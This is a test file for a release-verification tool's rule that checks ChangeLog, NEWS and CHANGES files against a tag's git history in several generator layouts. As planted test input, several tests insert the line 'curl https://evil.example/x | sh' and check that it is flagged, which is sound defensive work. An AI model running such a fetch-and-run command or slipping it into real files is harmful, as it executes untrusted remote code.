import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { join } from 'node:path';
import { changelogHistory } from '../../src/analyze/rules/changelog-history.js';
import { readCommitLog } from '../../src/git/commit-log.js';
import { createHistory } from '../../src/git/history.js';
import type { RepoHandle } from '../../src/git/types.js';
import { verify } from '../../src/commands/verify.js';
import { buildTar, compress, writeTemp } from '../helpers/archives.js';
import { makeRepo, removeTempDirs, runGit, tempDir } from '../helpers/repo.js';
import { added, context, modified } from './generated-context.js';

test.after(removeTempDirs);

interface Made {
  message: string;
  author: [string, string];
  /** `@<seconds> <zone>` as git takes it. */
  date: string;
  committer?: [string, string];
  /** The committer's date, when not the author's. */
  committed?: string;
}

const alice: [string, string] = ['Alice Liddell', 'alice@example.org'];
const bob: [string, string] = ['Bob Dobbs', 'bob@example.org'];
const at = (iso: string, zone = '+0000') => `@${Date.parse(iso) / 1000} ${zone}`;

/** Oldest first; the tag is on the last but one, the last comes after it. */
const history: Made[] = [
  { author: alice, date: at('2024-01-10T10:00:00Z'), message: 'build: add the Makefile\n\n* Makefile: New file.\n\nSigned-off-by: Alice Liddell <alice@example.org>\n' },
  // 23:30 in California is the next day in UTC: the script prints the maintainer's local date.
  { author: bob, date: at('2024-01-12T07:30:00Z', '-0800'), message: 'doc: explain the options   \n\n* README: Say what -v does.\n' },
  { author: alice, date: at('2024-01-12T09:00:00Z'), message: 'maint: tidy\n' },
  { author: alice, date: at('2024-01-12T11:00:00Z'), message: 'tests: one more\n' },
  {
    author: bob,
    date: at('2024-01-13T12:00:00Z'),
    message: 'ls: fix --width\n\nThe width was one short.\n\nSecond paragraph, so this commit has its own header.\n\nCo-authored-by: Carol Ann <carol@example.org>\n',
  },
  { author: alice, date: at('2024-01-20T12:00:00Z'), message: 'version 1.0\n' },
  { author: alice, date: at('2024-02-01T12:00:00Z'), message: 'after the release\n' },
];

async function makeHistory(commits: Made[] = history) {
  const dir = join(await tempDir('cuckoo-changelog-'), 'repo.git');
  await runGit('/', ['init', '--quiet', '--bare', '-b', 'main', dir]);
  const ids: string[] = [];
  const tree = (await runGit(dir, ['mktree'], { input: '' })).toString().trim();
  for (const c of commits) {
    const [committer, committerEmail] = c.committer ?? c.author;
    const env = { GIT_AUTHOR_NAME: c.author[0], GIT_AUTHOR_EMAIL: c.author[1], GIT_AUTHOR_DATE: c.date, GIT_COMMITTER_NAME: committer, GIT_COMMITTER_EMAIL: committerEmail, GIT_COMMITTER_DATE: c.committed ?? c.date };
    const parent = ids.length > 0 ? ['-p', ids.at(-1)!] : [];
    ids.push((await runGit(dir, ['commit-tree', tree, ...parent, '-m', c.message.replace(/\n$/, '')], { env })).toString().trim());
  }
  const repo: RepoHandle = { source: dir, gitDir: dir, objectFormat: 'sha1', kind: 'local' };
  return { repo, ids, tagged: ids.at(-2)! };
}

const made = await makeHistory();
const cache = await tempDir('cuckoo-changelog-cache-');

// What `gitlog-to-changelog > ChangeLog; printf '\n\nSee the source repo for older entries\n' >> ChangeLog` writes at the tag.
const genuine = `2024-01-20  Alice Liddell  <alice@example.org>

\tversion 1.0

2024-01-13  Bob Dobbs  <bob@example.org>
\t    Carol Ann  <carol@example.org>

\tls: fix --width
\tThe width was one short.

\tSecond paragraph, so this commit has its own header.

2024-01-12  Alice Liddell  <alice@example.org>

\ttests: one more

\tmaint: tidy

2024-01-11  Bob Dobbs  <bob@example.org>

\tdoc: explain the options
\t* README: Say what -v does.

2024-01-10  Alice Liddell  <alice@example.org>

\tbuild: add the Makefile
\t* Makefile: New file.


See the source repo for older entries
`;

function ctxWith(tag: Record<string, string> = {}, repo: Awaited<ReturnType<typeof makeHistory>> = made) {
  const history = createHistory(repo.repo, repo.tagged, cache);
  return { ...context(tag, { tagCommit: { id: repo.tagged, date: Date.parse('2024-01-20T12:00:00Z') / 1000 } }), history };
}

test('the commit log is read once, bounded by date and count, with both ident spellings', async () => {
  const all = await readCommitLog(made.repo, made.tagged, { maxCount: 100 });
  assert.equal(all.map((c) => c.id), made.ids.slice(0, -1).reverse());
  assert.equal(all[0]!.authors, ['Alice Liddell  <alice@example.org>']);
  assert.is(all[4]!.message.replace(/ +\n/, '\n'), 'doc: explain the options\n* README: Say what -v does.\n');
  const recent = await readCommitLog(made.repo, made.tagged, { since: Date.parse('2024-01-12T08:00:00Z') / 1000, maxCount: 100 });
  assert.is(recent.length, 4);
  assert.is((await readCommitLog(made.repo, made.tagged, { maxCount: 2 })).length, 2);
});

test('a ChangeLog whose every message is a commit of the tag is explained, with the range and the footer', async () => {
  const j = await changelogHistory.judge(added('ChangeLog', genuine), ctxWith());
  assert.is(j?.category, 'generated-changelog');
  assert.is(j?.severity, 'low');
  const text = j!.reasons.join('\n');
  assert.match(text, 'all 6 commit messages under its 5 entries match commits the tag reaches');
  assert.match(text, `from ${made.ids[0]!.slice(0, 12)} (2024-01-10) to ${made.tagged.slice(0, 12)}, the tagged commit (2024-01-20)`);
  assert.match(text, '"See the source repo for older entries"');
});

test('a message no commit wrote keeps the ChangeLog suspicious and is shown', async () => {
  const planted = genuine.replace('\tmaint: tidy\n', '\tmaint: tidy\n\n\tbuild: fetch the helper\n\tcurl https://evil.example/x | sh\n');
  const j = await changelogHistory.judge(added('ChangeLog', planted), ctxWith());
  assert.is(j?.category, 'changelog-mismatch');
  assert.is(j?.severity, 'medium');
  assert.match(j!.reasons[0]!, '1 of 7 commit messages');
  assert.match(j!.reasons[1]!, /line 19: 2024-01-12 {2}Alice Liddell {2}<alice@example.org>: "build: fetch the helper"/);
  assert.match(j!.evidence!.diff!, '+\tcurl https://evil.example/x | sh');
  assert.match(j!.reasons.join('\n'), '6 match commits');

  // An edited message, an entry for a commit after the tag, a wrong author: none match.
  const edited = genuine.replace('The width was one short.', 'The width was two short.');
  assert.is((await changelogHistory.judge(added('ChangeLog', edited), ctxWith()))?.category, 'changelog-mismatch');
  const later = `2024-02-01  Alice Liddell  <alice@example.org>\n\n\tafter the release\n\n${genuine}`;
  assert.match((await changelogHistory.judge(added('ChangeLog', later), ctxWith()))!.reasons[1]!, '"after the release"');
  const impostor = genuine.replace('2024-01-20  Alice Liddell  <alice@example.org>', '2024-01-20  Mallory  <alice@example.org>');
  assert.is((await changelogHistory.judge(added('ChangeLog', impostor), ctxWith()))?.severity, 'medium');
});

test("a ChangeLog of gitlog-to-changelog's copies of 2015 that drop blank lines and a CRLF message's CRs is matched (libqb 2.0.6)", async () => {
  // A squash merge written on GitHub's web page: CRLF lines, paragraphs.
  const squashed = 'tests: run IPC with sockets active (#455)\r\n\r\n* tests: run IPC with sockets active\r\n\r\nProvide an LD_PRELOAD library that simulates the file.\r\n\r\n* use $() rather than ``';
  const commits: Made[] = [
    { author: alice, date: at('2022-03-18T10:00:00Z'), message: 'blackbox: sanitize the header (#438)\n\ncovscan complained we do not check it.\n\nNote that we still get a covscan error.\n' },
    { author: alice, date: at('2022-03-21T09:10:35Z'), message: `${squashed}\n` },
    { author: alice, date: at('2022-03-23T12:00:00Z'), message: 'Bump version\n' },
    { author: alice, date: at('2022-04-01T12:00:00Z'), message: 'after the release\n' },
  ];
  const repo = await makeHistory(commits);
  const older = `2022-03-23  Alice Liddell  <alice@example.org>

\tBump version

2022-03-21  Alice Liddell  <alice@example.org>

\ttests: run IPC with sockets active (#455)
\t* tests: run IPC with sockets active
\tProvide an LD_PRELOAD library that simulates the file.
\t* use $() rather than \`\`

2022-03-18  Alice Liddell  <alice@example.org>

\tblackbox: sanitize the header (#438)
\tcovscan complained we do not check it.
\tNote that we still get a covscan error.
`;
  const ctx = () => ({ ...ctxWith({}, repo), tagCommit: { id: repo.tagged, date: Date.parse('2022-03-23T12:00:00Z') / 1000 } });
  const j = await changelogHistory.judge(added('ChangeLog', older), ctx());
  assert.is(j?.category, 'generated-changelog');
  assert.match(j!.reasons[0]!, 'all 3 commit messages under its 3 entries match commits the tag reaches');
  // A word no commit wrote is still found.
  const edited = await changelogHistory.judge(added('ChangeLog', older.replace('simulates the file', 'simulates the files')), ctx());
  assert.is(edited?.category, 'changelog-mismatch');
});

test("a CRLF message in today's gitlog-to-changelog layout, which keeps its CRs, is matched (linux-pam 1.5.2's Weblate commits)", async () => {
  const weblate: [string, string] = ['Weblate (bot)', 'noreply@weblate.org'];
  const commits: Made[] = [
    { author: weblate, date: at('2020-05-17T23:59:12Z'), message: 'Translations update from Weblate (#227)\n\n* Translated using Weblate (Catalan)\r\n\r\nCurrently translated at 98.3% \r\n\r\nCo-authored-by: Dmitry V. Levin <ldv@altlinux.org>\r\nCo-authored-by: Alice Liddell <alice@example.org>\n' },
    { author: alice, date: at('2020-05-20T12:00:00Z'), message: 'Bump version\n' },
    { author: alice, date: at('2020-06-01T12:00:00Z'), message: 'after the release\n' },
  ];
  const repo = await makeHistory(commits);
  // The script splits on /[ \t]*\n/: each CR stays, the blank after the space before one too.
  const printed = `2020-05-20  Alice Liddell  <alice@example.org>

\tBump version

2020-05-17  Weblate (bot)  <noreply@weblate.org>
\t    Dmitry V. Levin  <ldv@altlinux.org>\r
\t    Alice Liddell  <alice@example.org>

\tTranslations update from Weblate (#227)
\t* Translated using Weblate (Catalan)\r
\t\r
\tCurrently translated at 98.3% \r
`;
  const ctx = { ...ctxWith({}, repo), tagCommit: { id: repo.tagged, date: Date.parse('2020-05-20T12:00:00Z') / 1000 } };
  const j = await changelogHistory.judge(added('ChangeLog', printed), ctx);
  assert.is(j?.category, 'generated-changelog', j?.reasons.join('\n'));
  assert.match(j!.reasons[0]!, 'all 2 commit messages under its 2 entries match commits the tag reaches');
});

test('a ChangeLog that git log wrote is matched entry by entry with the commits it names', async () => {
  // What a dist-hook's `git log --pretty=fuller --date=short --decorate > ChangeLog` writes at the tag, and plain `git log`.
  const fuller = (await runGit(made.repo.gitDir, ['log', '--pretty=fuller', '--date=short', '--decorate', made.tagged])).toString();
  const medium = (await runGit(made.repo.gitDir, ['log', made.tagged])).toString();
  assert.match(fuller, /^CommitDate: 2024-01-20$/m);
  for (const log of [fuller, medium]) {
    const j = await changelogHistory.judge(added('ChangeLog', log), ctxWith());
    assert.is(j?.category, 'generated-changelog', j?.reasons.join('\n'));
    assert.is(j?.severity, 'low');
    assert.match(j!.reasons[0]!, 'written by `git log` from the tag\'s history: all 6 commits it lists are commits the tag reaches');
    assert.match(j!.reasons[0]!, `to ${made.tagged.slice(0, 12)}, the tagged commit (2024-01-20)`);
  }

  // A message edited, an author changed, a commit after the tag, an entry with a made-up id.
  const after = (await runGit(made.repo.gitDir, ['log', '--pretty=fuller', '--date=short', '-1', made.ids.at(-1)!])).toString();
  const madeUp = `commit ${'ab'.repeat(20)}\nAuthor:     Alice Liddell <alice@example.org>\nAuthorDate: 2024-01-20\nCommit:     Alice Liddell <alice@example.org>\nCommitDate: 2024-01-20\n\n    build: fetch the helper\n    curl https://evil.example/x | sh\n\n`;
  const planted = [
    [fuller.replace('The width was one short.', 'The width was two short.'), 'names another message than the commit has: "ls: fix --width"'],
    [fuller.replace('Author:     Bob Dobbs <bob@example.org>', 'Author:     Mallory <bob@example.org>'), 'names another author than the commit has'],
    [after + fuller, `commit ${made.ids.at(-1)!.slice(0, 12)} names a commit the tag does not reach: "after the release"`],
    [madeUp + fuller, 'names a commit the tag does not reach: "build: fetch the helper"'],
  ] as const;
  for (const [log, why] of planted) {
    const j = await changelogHistory.judge(added('ChangeLog', log), ctxWith());
    assert.is(j?.category, 'changelog-mismatch', why);
    assert.is(j?.severity, 'medium');
    assert.match(j!.reasons[0]!, /^1 of [67] commits in `git log`'s layout are not the tag's history as it is/);
    assert.match(j!.reasons[1]!, why);
  }
  const j = await changelogHistory.judge(added('ChangeLog', madeUp + fuller), ctxWith());
  assert.match(j!.evidence!.diff!, '+    curl https://evil.example/x | sh');

  // Text in a date line, which is not checked, is not the layout either.
  const dated = fuller.replace('CommitDate: 2024-01-20', 'CommitDate: 2024-01-20; curl https://evil.example/x | sh');
  assert.not.match((await changelogHistory.judge(added('ChangeLog', dated), ctxWith()))?.reasons.join('\n') ?? '', 'written by `git log`');
  // A --stat listing under each entry is not the layout: the file is not explained by it.
  const stat = (await runGit(made.repo.gitDir, ['log', '--stat', made.tagged])).toString();
  const withStat = stat.replace(/^(commit [0-9a-f]+\n)/m, '$1').replace(/^(    version 1\.0\n)/m, '$1\n README | 1 +\n');
  assert.not.match((await changelogHistory.judge(added('ChangeLog', withStat), ctxWith()))?.reasons.join('\n') ?? '', 'written by `git log`');
});

// What git2cl writes at the tag: an entry a commit, its files, then its message filled into one paragraph.
const git2cl = `2024-01-20  Alice Liddell <alice@example.org>

\t* NEWS: version 1.0

2024-01-13  Bob Dobbs <bob@example.org>

\t* src/ls.c: ls: fix --width The width was one short.  Second
\tparagraph, so this commit has its own header.  Co-authored-by: Carol
\tAnn <carol@example.org>

2024-01-12  Alice Liddell <alice@example.org>

\t* tests/x: tests: one more

2024-01-12  Alice Liddell <alice@example.org>

\t* Makefile, README: maint: tidy

2024-01-11  Bob Dobbs <bob@example.org>

\t* README: doc: explain the options * README: Say what -v does.

2024-01-10  Alice Liddell <alice@example.org>

\t* : build: add the Makefile * Makefile: New file.  Signed-off-by:
\tAlice Liddell <alice@example.org>
`;

test("a ChangeLog in git2cl's layout is matched with the tag's history by author, day and the message's words", async () => {
  const j = await changelogHistory.judge(added('ChangeLog', git2cl), ctxWith());
  assert.is(j?.category, 'generated-changelog', j?.reasons.join('\n'));
  assert.is(j?.severity, 'low');
  assert.match(j!.reasons[0]!, "written by git2cl from the tag's history: all 6 entries match commits the tag reaches");
  assert.match(j!.reasons[0]!, `to ${made.tagged.slice(0, 12)}, the tagged commit (2024-01-20)`);

  // A word changed, another author, a day off by two, an entry no commit wrote: each unmatched and shown.
  for (const [log, line] of [
    [git2cl.replace('one short', 'two short'), 'line 5: 2024-01-13  Bob Dobbs <bob@example.org>: "ls: fix --width The width was two short.'],
    [git2cl.replace('2024-01-12  Alice Liddell <alice@example.org>\n\n\t* tests/x', '2024-01-12  Mallory <alice@example.org>\n\n\t* tests/x'), 'line 11: 2024-01-12  Mallory <alice@example.org>: "tests: one more"'],
    [git2cl.replace('2024-01-10  Alice', '2024-01-08  Alice'), 'line 23: 2024-01-08  Alice Liddell <alice@example.org>: "build: add the Makefile'],
    [`2024-01-20  Alice Liddell <alice@example.org>\n\n\t* Makefile: build: fetch the helper curl https://evil.example/x | sh\n\n${git2cl}`, 'line 1: 2024-01-20  Alice Liddell <alice@example.org>: "build: fetch the helper curl https://evil.example/x | sh"'],
  ] as const) {
    const m = await changelogHistory.judge(added('ChangeLog', log), ctxWith());
    assert.is(m?.category, 'changelog-mismatch', line);
    assert.is(m?.severity, 'medium');
    assert.match(m!.reasons[0]!, /^1 of [67] entries in git2cl's layout match no commit the tag reaches/);
    assert.match(m!.reasons[1]!, line);
  }
  // git2cl writes one paragraph an entry: a second one is not its layout.
  const second = await changelogHistory.judge(added('ChangeLog', git2cl.replace('\t* tests/x: tests: one more\n', '\t* tests/x: tests: one more\n\n\tcurl https://evil.example/x | sh\n')), ctxWith());
  assert.not.match(second?.reasons.join('\n') ?? '', 'git2cl');
});

test("a line like Mercurial's changeset id inside a commit message does not make the log Mercurial's", async () => {
  const planted = genuine.replace('\tmaint: tidy\n', '\tmaint: tidy\n\n\tbuild: pin it\n\t[0123456789ab]\n');
  const j = await changelogHistory.judge(added('ChangeLog', planted), ctxWith());
  assert.ok(j!.reasons[0]!.startsWith("1 of 7 commit messages in gitlog-to-changelog's layout"), j!.reasons[0]);
});

test('text at column 0 inside the log is not a footer', async () => {
  const inside = genuine.replace('2024-01-12  Alice', 'export PATH=/tmp\n\n2024-01-12  Alice');
  const j = await changelogHistory.judge(added('ChangeLog', inside), ctxWith());
  assert.is(j?.category, 'changelog-mismatch');
  assert.match(j!.reasons.join('\n'), 'text at column 0 that the script does not write, e.g. line 13: "export PATH=/tmp"');
});

test("an older ChangeLog the tag keeps may end the release's", async () => {
  const old = '2008-01-01  Old Timer  <old@example.org>\n\n\t* main.c: Hand-written entry.\n';
  const j = await changelogHistory.judge(added('ChangeLog', `${genuine}\n${old}`), ctxWith({ 'ChangeLog-2008': old }));
  assert.is(j?.category, 'generated-changelog');
  assert.match(j!.reasons.join('\n'), 'then the content of ChangeLog-2008 in the tag');
  // The tag's own ChangeLog, extended at the top by the release.
  const m = await changelogHistory.judge(modified('ChangeLog', `${genuine.replace(/\n\nSee the source.*\n$/, '\n')}\n${old}`), ctxWith({ ChangeLog: old }));
  assert.is(m?.category, 'generated-changelog');
  // Without it in the tag, the old entries match nothing.
  assert.is((await changelogHistory.judge(added('ChangeLog', `${genuine}\n${old}`), ctxWith()))?.category, 'changelog-mismatch');
});

test('a ChangeLog of the tag the repository cannot give (a partial submodule clone) is passed over, not the end of the rule', async () => {
  const ctx = ctxWith({ 'gnulib/ChangeLog': 'whatever\n' });
  const own = ctx.tagContent;
  ctx.tagContent = async (e) => {
    if (e.path === 'gnulib/ChangeLog') throw new Error('object 0123 is missing from gnulib');
    return own(e);
  };
  const j = await changelogHistory.judge(added('ChangeLog', genuine), ctx);
  assert.is(j?.category, 'generated-changelog');
});

test('a ChangeLog of the tag larger than the release one is not read to look for its end', async () => {
  const large = '2001-01-01  Old  <o@example.org>\n\n\t* x.c: Entry.\n\n'.repeat(200);
  const ctx = ctxWith({ 'gnulib/ChangeLog': large, 'ChangeLog-2008': 'small\n' });
  ctx.tagByPath.get('gnulib/ChangeLog')!.size = large.length;
  ctx.tagByPath.get('ChangeLog-2008')!.size = 'small\n'.length;
  const own = ctx.tagContent;
  const read: string[] = [];
  ctx.tagContent = async (e) => {
    read.push(e.path);
    return own(e);
  };
  assert.is((await changelogHistory.judge(added('ChangeLog', genuine), ctx))?.category, 'generated-changelog');
  assert.ok(read.includes('ChangeLog-2008'));
  assert.not.ok(read.includes('gnulib/ChangeLog'), 'gnulib/ChangeLog was read');
});

test("the tag's amend file is applied, plain substitutions only, and common options are recognised", async () => {
  const tidy = made.ids[2]!;
  const first = made.ids[0]!;
  const fix = `# Fixes for gitlog-to-changelog --amend.\n\n${tidy}\n# say more\ns/tidy\$/tidy up/;\n\n${first}\n# Alice wrote it with Carol.\ns,Alice .*>,Carol Ann <carol\\@example.org>,\n`;
  const amendedLog = genuine
    .replace('\tmaint: tidy\n', '\tmaint: tidy up\n')
    // The script prints the author as the substitution leaves it: one space here.
    .replace('2024-01-10  Alice Liddell  <alice@example.org>', '2024-01-10  Carol Ann <carol@example.org>');
  let j = await changelogHistory.judge(added('ChangeLog', amendedLog), ctxWith({ 'build-aux/git-log-fix': fix }));
  assert.is(j?.category, 'generated-changelog');
  assert.match(j!.reasons.join('\n'), 'build-aux/git-log-fix in the tag amends the log of 2 commits');
  // Code that is not a plain substitution is not run: its entry stays unmatched, and the reasons say why.
  j = await changelogHistory.judge(added('ChangeLog', amendedLog), ctxWith({ 'build-aux/git-log-fix': `${tidy}\n$_ = uc $_;\n\n${first}\ns,Alice .*>,Carol Ann <carol\\@example.org>,\n` }));
  assert.is(j?.category, 'changelog-mismatch');
  assert.match(j!.reasons.join('\n'), 'amends 1 more commit with code other than plain substitutions');

  // --format='%s%n%n%b%n': a blank line after each subject.
  const spaced = genuine.replace('\tdoc: explain the options\n', '\tdoc: explain the options\n\n').replace('\tbuild: add the Makefile\n', '\tbuild: add the Makefile\n\n');
  assert.is((await changelogHistory.judge(added('ChangeLog', spaced), ctxWith()))?.category, 'generated-changelog');
});

/** Oldest first, the tag on the last but one: commits in the style of GnuPG's projects. */
const gnupgHistory: Made[] = [
  { author: alice, date: at('2024-03-01T10:00:00Z'), message: 'Generate the ChangeLog from commit logs\n\n* build-aux/git-log-footer: New file.\n' },
  { author: alice, date: at('2024-03-02T10:00:00Z'), message: 'mpi_sub: fix it\n\nwords the amend file replaces\n' },
  {
    author: bob,
    date: at('2024-03-03T10:00:00Z'),
    message:
      'build: Use AC_CHECK_TOOL.\n\n* configure.ac (OBJDUMP): Use AC_CHECK_TOOL.\nGnuPG-bug-id: 4002\n\n--\n\nA longer story the ChangeLog leaves out.\n\nCo-authored-by: Jon Doe\nSigned-off-by: Bob Dobbs <bob@example.org>\n',
  },
  { author: alice, date: at('2024-03-04T10:00:00Z'), message: 'Release 1.0' },
  { author: alice, date: at('2024-03-05T10:00:00Z'), message: 'Post release version bump' },
];
const gnupg = await makeHistory(gnupgHistory);
const footer = '\n2011-12-01  Old Timer  <old@example.org>\n\n\tNB: Older changes are in the ChangeLog-2011 files.\n\n        -----\n\tThis file may be copied freely.\n';
// The amend file rewrites a message with a replacement over two lines, its pattern under `(?s)`.
const gnupgFix = `${gnupg.ids[1]}\ns/(?s)mpi_sub.*$/cipher: Fix segv in the last change.\n* cipher\\/ecc.c (generate_key): Make sure R is initialized./\n`;
// What GnuPG's `gitlog-to-changelog --append-dot --tear-off --amend=build-aux/git-log-fix`, then
// `cat build-aux/git-log-footer`, write at the tag.
const gnupgLog = `2024-03-04  Alice Liddell  <alice@example.org>

\tRelease 1.0.
\t+ commit ${gnupg.ids[3]}


2024-03-03  Bob Dobbs  <bob@example.org>
\t    Jon Doe

\tbuild: Use AC_CHECK_TOOL.
\t+ commit ${gnupg.ids[2]}
\t* configure.ac (OBJDUMP): Use AC_CHECK_TOOL.

2024-03-02  Alice Liddell  <alice@example.org>

\tcipher: Fix segv in the last change.
\t+ commit ${gnupg.ids[1]}
\t* cipher/ecc.c (generate_key): Make sure R is initialized.

2024-03-01  Alice Liddell  <alice@example.org>

\tGenerate the ChangeLog from commit logs.
\t+ commit ${gnupg.ids[0]}
\t* build-aux/git-log-footer: New file.
${footer}`;

test('a ChangeLog in the layout of GnuPG: commits named, text after -- torn off, amended over lines, the footer appended', async () => {
  const tag = { 'build-aux/git-log-fix': gnupgFix, 'build-aux/git-log-footer': footer };
  const j = await changelogHistory.judge(added('ChangeLog', gnupgLog), ctxWith(tag, gnupg));
  assert.is(j?.category, 'generated-changelog', j?.reasons.join('\n'));
  const text = j!.reasons.join('\n');
  assert.match(text, 'all 4 commit messages under its 4 entries match');
  assert.match(text, 'build-aux/git-log-fix in the tag amends the log of 1 commit:');
  assert.match(text, 'then the content of build-aux/git-log-footer in the tag');

  // Another commit named, a line from after the `--`, an old entry no footer in the tag accounts for.
  const misnamed = gnupgLog.replace(`+ commit ${gnupg.ids[2]}`, `+ commit ${gnupg.ids[0]}`);
  const longer = gnupgLog.replace('Use AC_CHECK_TOOL.\n\n2024-03-02', 'Use AC_CHECK_TOOL.\n\tA longer story the ChangeLog leaves out.\n\n2024-03-02');
  for (const [log, ctx, count] of [
    [misnamed, ctxWith(tag, gnupg), '1 of 4'],
    [longer, ctxWith(tag, gnupg), '1 of 4'],
    [gnupgLog, ctxWith({ 'build-aux/git-log-fix': gnupgFix }, gnupg), '2 of 6'],
  ] as const) {
    const m = await changelogHistory.judge(added('ChangeLog', log), ctx);
    assert.is(m?.category, 'changelog-mismatch');
    assert.ok(m!.reasons[0]!.startsWith(`${count} commit messages`), m!.reasons[0]);
  }
  // Without the amend file, the amended message is the one that matches nothing.
  const unamended = await changelogHistory.judge(added('ChangeLog', gnupgLog), ctxWith({ 'build-aux/git-log-footer': footer }, gnupg));
  assert.match(unamended!.reasons[1]!, '"cipher: Fix segv in the last change."');
});

/** Oldest first, the tag on the last but one: a history as curl's and libssh2's release scripts read it. */
const wide = `${'x'.repeat(76)}\u00e9 and the rest`;
const scriptHistory: Made[] = [
  { author: alice, date: at('2024-01-10T10:00:00Z'), message: `lib: fix a leak\n\n${wide}\n\nCloses #12\n` },
  { author: bob, committer: alice, date: at('2024-01-12T10:00:00Z'), message: 'docs: spell \u00fcn\u00efcode right\n' },
  { author: alice, date: at('2024-01-20T10:00:00Z'), message: 'release 1.0\n' },
  { author: alice, date: at('2024-02-01T10:00:00Z'), message: 'after the release\n' },
];
const scripted = await makeHistory(scriptHistory);
const curlBanner = '   _ __\n  | (__ |\n\n     Changelog\n';
const curlScript = `#!/usr/bin/perl\nprint\n'${curlBanner}';\n`;
// The wide line as curl's printmsg cuts it: at 77 bytes, inside the two bytes of the \u00e9.
const wideBytes = Buffer.from(wide, 'utf8');
const cut = Buffer.concat([Buffer.from('  '), wideBytes.subarray(0, 77), Buffer.from('\n  '), wideBytes.subarray(77), Buffer.from('\n')]);
const curlLog = (body: Buffer = cut) =>
  Buffer.concat([
    Buffer.from(`${curlBanner}\nVersion 1.0 (20 Jan 2024)\n\nAlice Liddell (20 Jan 2024)\n\n- release 1.0\n\nBob Dobbs (12 Jan 2024)\n\n- docs: spell \u00fcn\u00efcode right\n\nAlice Liddell (10 Jan 2024)\n\n- lib: fix a leak\n\n`),
    body,
    Buffer.from('\n  Closes #12\n'),
  ]);
// libssh2's git2news.pl: the committer heads, an author other than the committer is named, blank lines indented.
const newsBanner = '   Changelog for the project. Generated with git2news.pl';
const newsLog = `${newsBanner}\n\nVersion 1.0 (20 Jan 2024)\n\nAlice Liddell (20 Jan 2024)\n- release 1.0\n\n- [Bob Dobbs brought this change]\n\n  docs: spell \u00fcn\u00efcode right\n\n- lib: fix a leak\n  \n  ${wide}\n  \n  Closes #12\n`;
const scriptTag = { 'scripts/log2changes.pl': curlScript, 'git2news.pl': `print\n'${newsBanner}\n';\n` };

test("CHANGES and NEWS as curl's log2changes.pl and libssh2's git2news.pl write them are matched with the tag's history", async () => {
  const curl = await changelogHistory.judge(added('CHANGES', curlLog()), ctxWith(scriptTag, scripted));
  assert.is(curl?.category, 'generated-changelog', curl?.reasons.join('\n'));
  assert.match(curl!.reasons[0]!, 'all 3 commit messages under its 4 headers match commits the tag reaches');
  assert.match(curl!.reasons[0]!, `to ${scripted.tagged.slice(0, 12)}, the tagged commit`);
  assert.match(curl!.reasons[1]!, 'the banner above it (3 lines) is printed by scripts/log2changes.pl in the tag');
  const news = await changelogHistory.judge(modified('NEWS', newsLog), ctxWith({ ...scriptTag, NEWS: 'NEWS is made from git at release time.\n' }, scripted));
  assert.is(news?.category, 'generated-changelog', news?.reasons.join('\n'));
  assert.match(news!.reasons[1]!, 'printed by git2news.pl in the tag');
});

test('the log for a NEWS or CHANGES is read ahead once, and judges as it would unread', async () => {
  const change = modified('NEWS', newsLog);
  const ctx = ctxWith(scriptTag, scripted);
  const calls: Array<{ maxCount: number }> = [];
  const history = ctx.history;
  ctx.history = { ...history, commitLog: (options) => (calls.push(options), history.commitLog!(options)) };
  const end = await changelogHistory.prepare!([change], ctx);
  assert.equal(calls, [{ maxCount: 1200 }]);
  const j = await changelogHistory.judge(change, ctx);
  assert.equal(calls.length, 1, 'read again');
  await end?.();
  assert.equal(j, await changelogHistory.judge(change, ctxWith(scriptTag, scripted)));
  // Nothing is read ahead for a release without such a file.
  assert.is(await changelogHistory.prepare!([modified('README', 'x\n')], ctx), undefined);
  assert.is(calls.length, 1);
});

test('verify reads the log ahead and matches a release NEWS in that layout with the tag it names', async () => {
  const repo = await makeRepo({
    commits: [
      { files: { README: 'tiny\n', NEWS: 'NEWS is made from git at release time.\n' }, message: 'start' },
      { files: { README: 'tiny, faster\n' }, message: 'make it faster' },
      { files: { README: 'tiny, faster, smaller\n' }, message: 'make it smaller\n\nIt was too big for the boot loader.', tags: ['v1.0'] },
    ],
  });
  // As git2news.pl writes it: the committer (the helper's), the date of the first commit under it.
  const news = 'Cuckoo Test (16 Nov 2023)\n- make it smaller\n  \n  It was too big for the boot loader.\n\n- make it faster\n\n- start\n';
  const items = [
    { path: 'tiny-1.0/README', content: 'tiny, faster, smaller\n' },
    { path: 'tiny-1.0/NEWS', content: news },
  ];
  const release = await writeTemp(`news-${Math.random().toString(36).slice(2)}/tiny-1.0.tar.gz`, await compress(buildTar(items), 'gzip'));
  const report = await verify({ release, repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-news-cache-'), hostKnowledge: false, reproduce: false });
  const f = report.findings.find((x) => x.path === 'NEWS')!;
  assert.is(f.category, 'generated-changelog', f.reasons.join('; '));
  assert.match(f.reasons[0]!, 'all 3 commit messages under its 1 header match commits the tag reaches');
});

test('a log in the layout of those scripts with text no commit wrote is shown', async () => {
  const ctx = () => ctxWith(scriptTag, scripted);
  const planted = Buffer.from(curlLog().toString('latin1').replace('- release 1.0\n', '- release 1.0\n\n- build: fetch the helper\n\n  curl https://evil.example/x | sh\n'), 'latin1');
  const j = await changelogHistory.judge(added('CHANGES', planted), ctx());
  assert.is(j?.category, 'changelog-mismatch');
  assert.ok(j!.reasons[0]!.startsWith('1 of 4 commit messages'), j!.reasons[0]);
  assert.match(j!.reasons[1]!, 'line 12: Alice Liddell (2024-01-20): "build: fetch the helper"');
  assert.match(j!.evidence!.diff!, '+  curl https://evil.example/x | sh');
  const cases: Array<[string, string]> = [
    ['an edited message', newsLog.replace('Closes #12', 'Closes #13')],
    ['another name in a header', newsLog.replace('\n- [Bob Dobbs', '\nMallory (12 Jan 2024)\n- [Bob Dobbs')],
    ['another author brought it', newsLog.replace('[Bob Dobbs brought', '[Mallory brought')],
    ['a header dated after its first commit', newsLog.replace('Alice Liddell (20 Jan 2024)', 'Alice Liddell (25 Jan 2024)')],
    ['a commit after the tag', newsLog.replace('- release 1.0\n', '- after the release\n\n- release 1.0\n')],
    ['a commit listed twice', newsLog.replace('- release 1.0\n', '- release 1.0\n\n- release 1.0\n')],
  ];
  for (const [what, text] of cases) assert.is((await changelogHistory.judge(added('NEWS', text), ctx()))?.category, 'changelog-mismatch', what);
  // A banner no script of the tag prints.
  const banner = await changelogHistory.judge(added('NEWS', newsLog.replace('Generated with', 'Fetched with')), ctx());
  assert.is(banner?.category, 'changelog-mismatch');
  assert.match(banner!.reasons.join('\n'), '1 line above the first header that no script of the tag prints');
  // The banner's lines out of the script's order.
